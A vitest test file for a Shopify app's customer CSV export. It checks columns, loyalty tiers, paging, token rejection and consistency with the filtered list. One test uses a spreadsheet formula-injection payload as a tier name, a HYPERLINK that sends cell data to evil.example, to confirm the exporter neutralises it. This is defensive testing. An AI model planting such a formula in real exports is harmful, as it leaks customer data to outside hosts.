import { afterAll, beforeAll, describe, expect, it } from "vitest";

import { DEMO_HISTORY } from "~/demo/synthetic-history";
import { SEGMENTS } from "~/core/metrics/rfm";
import prisma from "~/db.server";
import { loader } from "~/routes/app.customers.export";
import { refreshClv } from "~/insight/clv-refresh.server";
import { csvField, customersCsv } from "~/insight/customer-export.server";
import { listCustomers, parseCustomerListQuery } from "~/insight/customers-list.server";
import { seedDemoStore } from "~/demo/demo-store.server";
import { stopJobQueue } from "~/platform/jobs.server";
import { saveLoyaltyProgram } from "~/loyalty/program.server";
import { ensureShop } from "~/sync/shops.server";

import { deliver } from "../helpers/deliver";
import { orderPayload } from "../helpers/orders";
import { adminFetchRequest, routeArgs, storeOfflineSession, uniqueShop } from "../helpers/shopify";

afterAll(() => stopJobQueue());

describe("GET /app/customers/export", () => {
  it("streams one CSV row per customer with the agreed header", async () => {
    const shop = uniqueShop("export");
    await ensureShop(shop);
    await storeOfflineSession(shop);
    const big = 9_007_199_254_740_993n; // 2^53 + 1
    await deliver({
      topic: "orders/create",
      shop,
      payload: orderPayload({
        id: 1n,
        updatedAt: "2026-01-01T00:00:00Z",
        processedAt: "2026-01-01T10:00:00-05:00",
        customer: { id: big },
        subtotalCents: 12_345,
      }),
    });
    await deliver({
      topic: "orders/create",
      shop,
      payload: orderPayload({
        id: 2n,
        updatedAt: "2026-02-01T00:00:00Z",
        processedAt: "2026-02-03T08:30:00Z",
        customer: { id: big },
        subtotalCents: 5,
      }),
    });
    await deliver({
      topic: "customers/create",
      shop,
      payload: { id: 42, email: "new@example.com", updated_at: "2026-01-01T00:00:00Z" },
    });

    const response = await loader(routeArgs(await adminFetchRequest(shop, "/app/customers/export")));
    expect(response.status).toBe(200);
    expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    const lines = (await response.text()).trimEnd().split("\n");
    // Issue 3's columns first and unchanged; later features add theirs at the end.
    expect(lines[0]).toBe(
      "customer_id,orders_count,first_order_at,last_order_at,net_revenue,currency," +
        "expected_orders_365d,p_alive,predicted_clv_365d,rfm_segment,points_balance,tier",
    );
    expect(lines.slice(1).sort()).toEqual(
      [`${big},2,2026-01-01T15:00:00.000Z,2026-02-03T08:30:00.000Z,123.50,USD,,,,,,`, "42,0,,,0.00,USD,,,,,,"].sort(),
    );
    // After a refresh the segment column is filled (this shop is too small to fit a model, so
    // the prediction columns stay empty).
    await refreshClv(shop, { trigger: "test" });
    const refreshed = await loader(routeArgs(await adminFetchRequest(shop, "/app/customers/export")));
    const refreshedLines = (await refreshed.text()).trimEnd().split("\n");
    expect(refreshedLines.find((line) => line.startsWith(`${big},`))).toMatch(/,USD,,,,[A-Z][A-Za-z' ]+,,$/);
  });

  it("ends with the member's points balance and tier name; empty for non-members", async () => {
    const shop = uniqueShop("export-loyalty");
    const { id: shopId } = await ensureShop(shop);
    await storeOfflineSession(shop);
    const tiers = {
      basis: "netSpend" as const,
      window: "lifetime" as const,
      review: "never" as const,
      levels: [
        { id: "silver", name: "Silver, the first", threshold: "0" },
        { id: "gold", name: "Gold", threshold: "100" },
      ],
    };
    await saveLoyaltyProgram(
      shop,
      { enabled: true, settings: { earnRate: "1", tiers } },
      "staff 1",
      new Date("2025-01-01"),
    );
    const order = (id: bigint, customer: bigint, cents: number) =>
      orderPayload({ id, updatedAt: "2026-01-01T00:00:00Z", customer: { id: customer }, subtotalCents: cents });
    await deliver({ topic: "orders/create", shop, payload: order(1n, 7n, 25_000) });
    await deliver({ topic: "orders/create", shop, payload: order(2n, 8n, 1_000) });
    await prisma.customer.create({ data: { shopId, shopifyId: 9n } });
    const response = await loader(routeArgs(await adminFetchRequest(shop, "/app/customers/export?sort=orders")));
    const rows = (await response.text()).trimEnd().split("\n").slice(1);
    const byId = new Map(rows.map((row) => [row.split(",")[0], row]));
    expect(byId.get("7")).toMatch(/,250,Gold$/);
    expect(byId.get("8")).toMatch(/,10,"Silver, the first"$/);
    expect(byId.get("9")).toMatch(/,,$/);
    // The tier filter narrows the export as it does the list.
    const gold = await loader(routeArgs(await adminFetchRequest(shop, "/app/customers/export?tier=gold")));
    expect(
      (await gold.text())
        .trimEnd()
        .split("\n")
        .slice(1)
        .map((row) => row.split(",")[0]),
    ).toEqual(["7"]);
  });

  it("writes a tier name that looks like a formula as text, in every row", async () => {
    const shop = uniqueShop("export-formula");
    await ensureShop(shop);
    await storeOfflineSession(shop);
    const name = '=HYPERLINK("https://evil.example/?"&A2,"Gold")';
    const tiers = {
      basis: "netSpend" as const,
      window: "lifetime" as const,
      review: "never" as const,
      levels: [{ id: "evil", name, threshold: "0" }],
    };
    await saveLoyaltyProgram(
      shop,
      { enabled: true, settings: { earnRate: "1", tiers } },
      "staff 1",
      new Date("2025-01-01"),
    );
    const order = (id: bigint, customer: bigint) =>
      orderPayload({ id, updatedAt: "2026-01-01T00:00:00Z", customer: { id: customer }, subtotalCents: 1_000 });
    await deliver({ topic: "orders/create", shop, payload: order(1n, 7n) });
    await deliver({ topic: "orders/create", shop, payload: order(2n, 8n) });
    const response = await loader(routeArgs(await adminFetchRequest(shop, "/app/customers/export")));
    const rows = (await response.text()).trimEnd().split("\n").slice(1);
    expect(rows).toHaveLength(2);
    for (const row of rows) expect(row.endsWith(`,"'${name.replace(/"/g, '""')}"`)).toBe(true);
  });

  it("neutralises every cell a spreadsheet would run as a formula, and leaves numbers alone", () => {
    expect(csvField("=1+1")).toBe("'=1+1");
    expect(csvField("+1")).toBe("'+1");
    expect(csvField("-1+2")).toBe("'-1+2");
    expect(csvField("@SUM(A1)")).toBe("'@SUM(A1)");
    expect(csvField("\t=1")).toBe("'\t=1");
    expect(csvField("\r=1")).toBe(`"'\r=1"`);
    expect(csvField("=A1,B1")).toBe(`"'=A1,B1"`);
    // Negative amounts (refunds) stay numbers; ordinary text is untouched.
    expect(csvField("-12.50")).toBe("-12.50");
    expect(csvField("-3")).toBe("-3");
    expect(csvField("Gold")).toBe("Gold");
    expect(csvField("Silver, the first")).toBe('"Silver, the first"');
  });

  it("pages through many customers", async () => {
    const shop = uniqueShop("export-many");
    const row = await ensureShop(shop);
    await storeOfflineSession(shop);
    await prisma.customer.createMany({
      data: Array.from({ length: 4500 }, (_, index) => ({ shopId: row.id, shopifyId: BigInt(index + 1) })),
    });
    const response = await loader(routeArgs(await adminFetchRequest(shop, "/app/customers/export")));
    const lines = (await response.text()).trimEnd().split("\n");
    expect(lines).toHaveLength(4501);
    expect(new Set(lines.slice(1).map((line) => line.split(",")[0])).size).toBe(4500);
  });

  it("refuses a request without a valid session token", async () => {
    const shop = uniqueShop("export-denied");
    await ensureShop(shop);
    await storeOfflineSession(shop);
    const request = await adminFetchRequest(shop, "/app/customers/export");
    const forged = new Request(request.url, {
      headers: { ...Object.fromEntries(request.headers), authorization: "Bearer not.a.token" },
    });
    const status = await loader(routeArgs(forged)).then(
      (response) => response.status,
      (thrown: Response) => thrown.status,
    );
    expect(status).toBe(401);
  });
});

describe("the export of the Customers list as filtered", () => {
  const shop = uniqueShop("export-filtered");

  beforeAll(async () => {
    await seedDemoStore(DEMO_HISTORY.end, { ...DEMO_HISTORY, customers: 400, seed: 3 }, shop);
    await storeOfflineSession(shop);
    const refresh = await refreshClv(shop, { trigger: "test", asOf: DEMO_HISTORY.end });
    expect(refresh.status).toBe("completed");
  }, 120_000);

  async function exported(search: string): Promise<string[][]> {
    const response = await loader(routeArgs(await adminFetchRequest(shop, `/app/customers/export${search}`)));
    expect(response.status).toBe(200);
    const [header, ...lines] = (await response.text()).trimEnd().split("\n");
    expect(header).toBe(
      "customer_id,orders_count,first_order_at,last_order_at,net_revenue,currency," +
        "expected_orders_365d,p_alive,predicted_clv_365d,rfm_segment,points_balance,tier",
    );
    return lines.map((line) => line.split(","));
  }

  // Every page of the list for the same search params, following Next.
  async function listed(search: string): Promise<string[]> {
    const ids: string[] = [];
    let after: string | undefined;
    for (;;) {
      const params = new URLSearchParams(search);
      if (after) params.set("after", after);
      const page = await listCustomers(shop, parseCustomerListQuery(params));
      ids.push(...page.rows.map((row) => row.shopifyId));
      if (!page.nextCursor) return ids;
      after = page.nextCursor;
    }
  }

  it("has every customer the list's filters, search and sort match, in the list's order", async () => {
    const segment = (
      await prisma.customer.groupBy({
        by: ["rfmSegment"],
        where: { shop: { shopDomain: shop }, rfmSegment: { not: null } },
        _count: true,
        orderBy: { _count: { rfmSegment: "desc" } },
      })
    )[0].rfmSegment!;
    const someone = await prisma.customer.findFirstOrThrow({
      where: { shop: { shopDomain: shop }, lastName: { not: null } },
      orderBy: { id: "asc" },
    });
    const searches = [
      "",
      "?sort=predictedClv",
      `?segment=${segment}&sort=predictedClv&direction=asc`,
      "?atRisk=1&sort=netRevenue",
      `?q=${encodeURIComponent(someone.lastName!.slice(0, 4).toLowerCase())}&sort=orders&direction=asc`,
    ];
    for (const search of searches) {
      const rows = await exported(search);
      expect([search, rows.map((row) => row[0])]).toEqual([search, await listed(search)]);
      expect(rows.length).toBeGreaterThan(0);
    }
    // Not just the page on screen: the whole list, more than one page of it.
    expect(await exported("")).toHaveLength(await prisma.customer.count({ where: { shop: { shopDomain: shop } } }));
    expect((await exported("")).length).toBeGreaterThan(50);
    const name = SEGMENTS.find((candidate) => candidate.id === segment)!.name;
    expect((await exported(`?segment=${segment}`)).every((row) => row[9] === name)).toBe(true);
    // A page cursor in the URL does not cut the export short.
    const firstPage = await listCustomers(shop, parseCustomerListQuery(new URLSearchParams()));
    expect(await exported(`?after=${firstPage.nextCursor}`)).toEqual(await exported(""));
  });

  it("writes each customer's figures in the columns it always had", async () => {
    const rows = await exported("?sort=predictedClv");
    const customers = await prisma.customer.findMany({ where: { shop: { shopDomain: shop } } });
    const byId = new Map(customers.map((customer) => [customer.shopifyId.toString(), customer]));
    const segmentName = new Map(SEGMENTS.map((segment) => [segment.id as string, segment.name]));
    const iso = (date: Date | null) => date?.toISOString() ?? "";
    expect(rows.some((row) => row[8] !== "")).toBe(true);
    for (const row of rows) {
      const customer = byId.get(row[0])!;
      expect(row).toEqual([
        customer.shopifyId.toString(),
        String(customer.ordersCount),
        iso(customer.firstOrderAt),
        iso(customer.lastOrderAt),
        customer.netRevenue.toFixed(2),
        "USD",
        customer.expectedOrders365d === null ? "" : customer.expectedOrders365d.toFixed(3),
        customer.probabilityAlive === null ? "" : customer.probabilityAlive.toFixed(4),
        customer.predictedClv365d?.toFixed(2) ?? "",
        customer.rfmSegment ? segmentName.get(customer.rfmSegment)! : "",
        // This store has no loyalty program: no points, no tier.
        "",
        "",
      ]);
    }
  });

  it("walks the list in batches without losing or repeating a row, across the customers without a value", async () => {
    for (const search of ["?sort=predictedClv", "?sort=lastOrder&direction=asc", "?q=example"]) {
      const query = parseCustomerListQuery(new URLSearchParams(search));
      const whole = await new Response(customersCsv(shop, query)).text();
      const inSevens = await new Response(customersCsv(shop, query, 7)).text();
      expect(inSevens).toBe(whole);
      expect(whole.split("\n").length).toBeGreaterThan(100);
    }
  });
});
